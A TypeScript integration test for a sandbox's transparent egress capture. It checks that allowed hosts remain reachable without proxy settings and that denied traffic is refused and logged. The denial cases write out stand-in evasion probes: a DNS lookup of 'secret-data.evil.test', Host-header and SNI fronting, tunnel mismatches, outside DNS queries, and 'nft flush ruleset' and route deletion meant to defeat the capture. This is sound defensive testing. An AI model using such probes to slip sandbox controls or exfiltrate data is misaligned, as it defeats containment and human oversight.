// Transparent egress from a real cell: clients that ignore or never had the proxy variables
// still reach allowed hosts, through the cell's capture (TPROXY to the proxy) and DNS stub;
// everything else is refused and every refusal is an event. One allowed and one denied
// stand-in upstream, named through network.hosts, over plain HTTP and over TLS with a test CA.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Cell } from '../../../src/cell/cell.js';
import type { CellEvent } from '../../../src/cell/types.js';
import { proxyEnv } from '../../../src/net/env.js';
import { parsePolicy, resolvePolicy } from '../../../src/policy/load.js';
import { makeSandbox, type Sandbox } from '../../helpers/cells.js';
import {
  makeBareRepo,
  PACKAGE_NAME,
  PACKAGE_VERSION,
  startEchoServer,
  startSecureServer,
  startWebServer,
  waitFor,
  type EchoServer,
  type WebServer,
} from './cellServers.js';
import { Harness } from './harness.js';

/** The host's own non-loopback address (eth0 on these machines): a real IP-literal upstream. */
const HOST_IP = '192.0.2.2';

const h = new Harness();
let web: WebServer;
let sec: WebServer & { ca: string };
let echo: EchoServer;
let raw: EchoServer;
let sb: Sandbox;
let cell: Cell;
const events: CellEvent[] = [];

/** Every proxy variable nanocell sets, unset: the client has only the capture to go through. */
const NO_PROXY_ENV = `unset ${Object.keys(proxyEnv(3128)).join(' ')}; `;

beforeAll(async () => {
  const gitRoot = makeBareRepo(h.dir);
  [web, sec, echo, raw] = await Promise.all([
    startWebServer(h, '127.0.0.2', gitRoot),
    startSecureServer(h, '127.0.0.3', 'secure.test', gitRoot),
    startEchoServer(h, '127.0.0.4'),
    startEchoServer(h, HOST_IP),
  ]);
  sb = makeSandbox({ 'local-ca.txt': sec.ca });
  const network = {
    allow: [`web.test:${web.port}`, `secure.test:${sec.port}`, `echo.test:${echo.port}`],
    cidrs: ['127.0.0.2/32', '127.0.0.3/32', '127.0.0.4/32', `${HOST_IP}/32:${raw.port}`],
    // evil.test is the denied stand-in: it pins to the same servers, but no rule allows it.
    hosts: {
      'web.test': '127.0.0.2',
      'secure.test': '127.0.0.3',
      'echo.test': '127.0.0.4',
      'evil.test': '127.0.0.2',
    },
  };
  cell = await Cell.create({
    policy: resolvePolicy(parsePolicy({ network })),
    workspace: sb.project,
    stateRoot: sb.stateRoot,
    onEvent: (e) => events.push(e),
  });
}, 120_000);

afterAll(async () => {
  await cell?.destroy().catch(() => undefined);
  sb?.cleanup();
  await h.cleanup();
});

const sh = (script: string) => cell.run(['bash', '-c', script]);
const bare = (script: string) => sh(NO_PROXY_ENV + script);
const find = (pred: (e: CellEvent) => boolean) => events.find(pred);
async function eventFor(pred: (e: CellEvent) => boolean, what: string): Promise<CellEvent> {
  await waitFor(events, (all) => all.some(pred), what);
  return find(pred)!;
}

describe('transparent capture: allowed clients without proxy settings', () => {
  it('curl over plain HTTP with and without the proxy variables, and with --noproxy *', async () => {
    const W = web.port;
    const [withVars, without, noproxy] = await Promise.all([
      sh(`curl -sS --max-time 10 http://web.test:${W}/with-vars`),
      bare(`curl -sS --max-time 10 http://web.test:${W}/without-vars`),
      sh(`curl -sS --max-time 10 --noproxy '*' http://web.test:${W}/noproxy`),
    ]);
    expect(withVars.stdout).toBe(`hello GET /with-vars host=web.test:${W}`);
    expect(without.stdout).toBe(`hello GET /without-vars host=web.test:${W}`);
    expect(noproxy.stdout).toBe(`hello GET /noproxy host=web.test:${W}`);
    const e = await eventFor(
      (x) => x.type === 'net.allowed' && x.protocol === 'transparent-http',
      'a transparent HTTP event',
    );
    expect(e).toMatchObject({
      host: 'web.test',
      port: W,
      rule: `allow:web.test:${W}`,
      ip: '127.0.0.2',
    });
  });

  it('IPv6: the fake AAAA address is captured the same way', async () => {
    const W = web.port;
    const r = await bare(`curl -sS -6 --max-time 10 -w ' %{remote_ip}' http://web.test:${W}/v6`);
    expect(r.stdout).toMatch(
      new RegExp(`^hello GET /v6 host=web.test:${W} fd6e:616e:6f63::[0-9a-f]+$`),
    );
  });

  it('curl over TLS with --noproxy *: the SNI matches the looked-up name', async () => {
    const r = await sh(
      `curl -sS --max-time 10 --noproxy '*' --cacert local-ca.txt https://secure.test:${sec.port}/tls`,
    );
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe(`hello GET /tls host=secure.test:${sec.port}`);
    const e = await eventFor(
      (x) => x.type === 'net.allowed' && x.protocol === 'transparent-tls',
      'a transparent TLS event',
    );
    expect(e).toMatchObject({ host: 'secure.test', port: sec.port });
  });

  it('Node fetch without NODE_USE_ENV_PROXY', async () => {
    const js = `fetch('https://secure.test:${sec.port}/node').then((r) => r.text()).then((t) => console.log(t))`;
    const r = await bare(`NODE_EXTRA_CA_CERTS=local-ca.txt node -e "${js}"`);
    expect(r.stderr).toBe('');
    expect(r.stdout.trim()).toBe(`hello GET /node host=secure.test:${sec.port}`);
  });

  it('Python urllib and http.client with the proxy variables removed', async () => {
    const py = [
      'import http.client, ssl, urllib.request',
      `print(urllib.request.urlopen("http://web.test:${web.port}/urllib", timeout=10).read().decode())`,
      `c = http.client.HTTPSConnection("secure.test", ${sec.port}, timeout=10, context=ssl.create_default_context(cafile="local-ca.txt"))`,
      'c.request("GET", "/httpclient")',
      'print(c.getresponse().read().decode())',
    ].join('\n');
    const r = await bare(`python3 -c '${py}'`);
    expect(r.stderr).toBe('');
    expect(r.stdout.trim().split('\n')).toEqual([
      `hello GET /urllib host=web.test:${web.port}`,
      `hello GET /httpclient host=secure.test:${sec.port}`,
    ]);
  });

  it('git ls-remote over HTTPS and npm view, with no proxy configuration', async () => {
    const S = sec.port;
    const r = await bare(
      `GIT_SSL_CAINFO=local-ca.txt git ls-remote https://secure.test:${S}/git/repo.git && ` +
        `npm_config_cafile=local-ca.txt npm view --registry https://secure.test:${S}/npm/ ` +
        `--fetch-retries 0 --update-notifier false ${PACKAGE_NAME} version`,
    );
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^[0-9a-f]{40}\trefs\/heads\/main$/m);
    expect(r.stdout.trim().split('\n').pop()).toBe(PACKAGE_VERSION);
  });

  it('raw TCP to an allowed name and to an allowed IP literal', async () => {
    const py = [
      'import socket',
      `for host, port in (("echo.test", ${echo.port}), ("${HOST_IP}", ${raw.port})):`,
      '    s = socket.create_connection((host, port), timeout=10)',
      '    s.sendall(b"ping")',
      '    print(s.recv(4).decode())',
    ].join('\n');
    const r = await bare(`python3 -c '${py}'`);
    expect(r.stdout.trim().split('\n')).toEqual(['ping', 'ping']);
    expect(raw.connections()).toBeGreaterThan(0);
    await eventFor(
      (x) =>
        x.type === 'net.allowed' &&
        x.host === HOST_IP &&
        x.rule === `cidr:${HOST_IP}/32:${raw.port}`,
      'the IP-literal connection',
    );
  });
});

describe('transparent capture: refusals, each an event', () => {
  it('getaddrinfo: an allowed name gets a fake address, a denied one NXDOMAIN and dns.denied', async () => {
    const py = [
      'import socket',
      'print(sorted({a[4][0] for a in socket.getaddrinfo("web.test", 80)}))',
      'try:',
      '    socket.getaddrinfo("secret-data.evil.test", 80)',
      'except socket.gaierror as e:',
      '    print("gaierror", e.errno)',
    ].join('\n');
    const r = await bare(`python3 -c '${py}'`);
    const [addrs, denied] = r.stdout.trim().split('\n');
    expect(addrs).toMatch(/^\['198\.1[89]\.\d+\.\d+', 'fd6e:616e:6f63::[0-9a-f]+'\]$/);
    expect(denied).toBe(`gaierror ${-2}`); // EAI_NONAME: NXDOMAIN, at once
    const e = await eventFor(
      (x) => x.type === 'dns.denied' && x.name === 'secret-data.evil.test',
      'dns.denied',
    );
    expect(e).toMatchObject({ rule: 'default-deny', transport: 'udp' });
  });

  it('dig answers from the stub over UDP and TCP; dig @8.8.8.8 gets nothing and is recorded', async () => {
    const r = await sh(
      'dig +short web.test; dig +short +tcp web.test; ' +
        'dig +time=1 +tries=1 @8.8.8.8 web.test > /dev/null; echo "rc=$?"',
    );
    const lines = r.stdout.trim().split('\n');
    expect(lines[0]).toMatch(/^198\.1[89]\./);
    expect(lines[1]).toBe(lines[0]);
    expect(lines[2]).toBe('rc=9'); // no reply from any server
    const e = await eventFor(
      (x) => x.type === 'net.denied' && x.host === '8.8.8.8' && x.port === 53,
      'the outside resolver attempt',
    );
    expect(e).toMatchObject({ protocol: 'udp', rule: 'capture:udp' });
  });

  it('a UDP datagram to an outside address is dropped and recorded', async () => {
    await bare(
      `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("${HOST_IP}", 9999))'`,
    );
    await eventFor(
      (x) => x.type === 'net.denied' && x.host === HOST_IP && x.port === 9999,
      'the UDP drop',
    );
  });

  it('ICMP cannot even be sent: no ping sockets, no raw sockets', async () => {
    const py = [
      'import socket',
      'for t in (socket.SOCK_DGRAM, socket.SOCK_RAW):',
      '    try:',
      '        socket.socket(socket.AF_INET, t, socket.IPPROTO_ICMP); print("created")',
      '    except OSError as e:',
      '        print(e.errno)',
    ].join('\n');
    const r = await bare(`python3 -c '${py}'`);
    // EACCES: ping sockets are off (ping_group_range); EPERM: no CAP_NET_RAW.
    expect(r.stdout.trim().split('\n')).toEqual(['13', '1']);
  });

  it('fronting: a Host header or SNI naming the denied host on the allowed host is refused', async () => {
    const W = web.port;
    const S = sec.port;
    const before = web.urls.length;
    const r = await bare(
      `curl -sS -i --max-time 10 -H 'Host: evil.test:${W}' http://web.test:${W}/front; echo; ` +
        `curl -sS --max-time 10 --cacert local-ca.txt --connect-to evil.test:${S}:secure.test:${S} ` +
        `https://evil.test:${S}/sni; echo "rc=$?"`,
    );
    expect(r.stdout).toMatch(/^HTTP\/1\.1 403 /);
    expect(r.stdout.trim()).toMatch(/rc=35$/); // the TLS handshake was cut
    expect(web.urls.slice(before)).toEqual([]);
    await eventFor((x) => x.type === 'net.denied' && x.rule === 'host-mismatch', 'host-mismatch');
    const sni = await eventFor(
      (x) => x.type === 'net.denied' && x.rule === 'sni-mismatch',
      'sni-mismatch',
    );
    expect(sni).toMatchObject({ host: 'secure.test', port: S });
  });

  it('an explicit CONNECT or SOCKS5 tunnel must agree with the SNI that follows it', async () => {
    const S = sec.port;
    const attempt = (proxy: string) =>
      `curl -sS --max-time 10 -x ${proxy} --cacert local-ca.txt ` +
      `--connect-to evil.test:${S}:secure.test:${S} https://evil.test:${S}/tunnel-sni; echo "rc=$?"`;
    const r = await sh(
      `${attempt('http://127.0.0.1:3128')}; ${attempt('socks5h://127.0.0.1:3128')}`,
    );
    expect(r.stdout.trim().split('\n')).toEqual(['rc=35', 'rc=35']);
    for (const protocol of ['connect', 'socks5']) {
      const e = await eventFor(
        (x) => x.type === 'net.denied' && x.rule === 'sni-mismatch' && x.protocol === protocol,
        `sni-mismatch on ${protocol}`,
      );
      expect(e).toMatchObject({ host: 'secure.test', port: S });
    }
  });

  it('a denied IP literal is refused; the task cannot change the capture', async () => {
    const r = await bare(
      `curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 10 http://${HOST_IP}:${web.port}/; ` +
        'nft flush ruleset; echo "nft=$?"; ip route del local default; echo "ip=$?"; ' +
        `curl -sS --max-time 10 http://web.test:${web.port}/after`,
    );
    const lines = r.stdout.trim().split('\n');
    // nft cannot open its netlink socket with no capability (exit 3); ip gets EPERM (exit 2).
    expect(lines.slice(0, 3)).toEqual(['403', 'nft=3', 'ip=2']);
    expect(r.stderr).toMatch(/Operation not permitted/);
    expect(lines[3]).toBe(`hello GET /after host=web.test:${web.port}`);
    await eventFor(
      (x) => x.type === 'net.denied' && x.host === HOST_IP && x.rule === 'ip-literal',
      'the IP literal refusal',
    );
  });
});
